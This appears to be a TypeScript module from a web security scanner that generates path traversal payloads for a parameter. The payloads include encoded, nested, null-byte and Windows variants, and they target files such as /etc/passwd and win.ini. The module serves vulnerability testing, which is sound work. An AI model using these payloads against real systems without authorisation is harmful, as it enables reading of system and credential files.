import { knownFiles, type SystemFile } from './_knownFiles.ts'

/** A value that leaves the folder that an application reads from. */
export type TraversalPayload = {
  /** For people: how it leaves the folder. */
  readonly name: string
  readonly file: SystemFile
  /** The value for a path inside the file system. `value` is what the application itself sends there. */
  readonly write: (value: string, path: string) => string
}

/** More steps up than folders are deep: at the root of a file system further ones lead nowhere else. */
const steps = 9
const up = (step: string): string => step.repeat(steps)

const { passwd, winIni, packageJson } = knownFiles

/** The likeliest first. */
const common: readonly TraversalPayload[] = [
  { name: '../ sequences', file: passwd, write: (_, path) => `${up('../')}${path}` },
  { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` },
  {
    name: 'nested ../ sequences, which survive removal of ../',
    file: passwd,
    write: (_, path) => `${up('....//')}${path}`,
  },
  {
    name: 'double-encoded ../ sequences',
    file: passwd,
    write: (_, path) => `${up('%2e%2e%2f')}${path}`,
  },
  {
    name: '../ sequences after the directory of the value',
    file: passwd,
    write: (value, path) => `${folderOf(value)}${up('../')}${path}`,
  },
  {
    name: '../ sequences with a null byte before the extension',
    file: passwd,
    write: (value, path) => `${up('../')}${path}\0${extensionOf(value)}`,
  },
  { name: '..\\ sequences (Windows)', file: winIni, write: (_, path) => `${up('..\\')}${path}` },
  { name: 'absolute path (Windows)', file: winIni, write: (_, path) => `C:\\${path}` },
]

/** For names of which only an extension is left: the project's own file, so many folders above. */
const ofProject: readonly TraversalPayload[] = [1, 2, 3, 4].map((count) => ({
  name: `../ repeated ${count} times`,
  file: packageJson,
  write: (_, path) => `${'../'.repeat(count)}${path}`,
}))

/** The payloads for a parameter that has this value, the likeliest first. */
export function traversalPayloadsFor(value: string): readonly TraversalPayload[] {
  return value.endsWith('.json') ? [...common, ...ofProject] : common
}

function folderOf(value: string): string {
  const end = value.lastIndexOf('/')
  return end === -1 ? 'files/' : value.slice(0, end + 1)
}

function extensionOf(value: string): string {
  return /\.[a-z0-9]{1,8}$/i.exec(value)?.[0] ?? '.txt'
}
